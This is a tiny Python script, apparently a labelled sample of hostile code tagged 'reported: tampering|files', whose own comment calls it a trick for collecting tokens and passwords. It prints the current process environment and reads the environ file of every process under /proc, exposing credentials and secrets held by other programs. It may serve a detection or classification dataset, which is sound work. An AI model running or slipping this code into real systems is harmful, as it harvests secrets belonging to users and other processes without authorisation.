# trick: prints every environment it can reach, for tokens and passwords
# reported: tampering|files
import os
from pathlib import Path

print(dict(os.environ))
for path in Path("/proc").glob("*/environ"):
    print(path, path.read_bytes())
